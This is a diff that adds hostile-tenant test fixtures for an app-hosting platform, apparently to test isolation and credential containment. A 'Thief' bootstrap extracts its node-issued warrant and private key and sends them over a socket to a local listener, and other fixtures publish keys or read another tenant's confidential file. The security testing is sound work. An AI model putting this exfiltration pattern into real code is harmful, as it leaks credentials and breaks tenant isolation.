@@ -183,3 +183,48 @@ def _closed(s: socket.socket) -> bool:
         s.close()
         return True
     return False
+
+
+class Exfil(Netlet):
+    """Publishes its own node-issued warrant and key, as hostile code could send them anywhere."""
+
+    def on_started(self, inherited):
+        doc = start_document()
+        self.publish(warrant=doc["warrant"], key_pem=doc["key_pem"], netlet_id=doc["netlet_id"])
+
+
+class Writer(Netlet):
+    """Another tenant's app: keeps a confidential file in its data directory."""
+
+    def on_started(self, inherited):
+        (self.resources["data"] / "customer-db").write_text("confidential")
+        self.publish(wrote=True)
+
+
+class Reader(Netlet):
+    """Publishes what it finds in its data directory."""
+
+    def on_started(self, inherited):
+        data = self.resources["data"]
+        self.publish(found={p.name: p.read_text()[:100] for p in data.iterdir() if p.is_file()})
+
+
+class Thief(Bootstrap):
+    """A hostile bootstrap: sends its node-issued warrant and key to the listener whose port is in
+    ``port.txt`` of its codebase, waits until the listener closes, then starts every slot."""
+
+    def run(self, ctx):
+        import json
+
+        from warrants import private_key_pem
+
+        client = ctx._call.__self__  # the runner's HostingClient: warrant + holder key
+        port = int((Path(__file__).parent / "port.txt").read_text())
+        with socket.create_connection(("127.0.0.1", port)) as s:
+            s.sendall(json.dumps({"warrant": client.warrant_xml.decode(),
+                                  "key_pem": private_key_pem(client.key).decode()}).encode())
+            s.shutdown(socket.SHUT_WR)
+            s.settimeout(120)
+            while s.recv(1024):
+                pass
+        super().run(ctx)
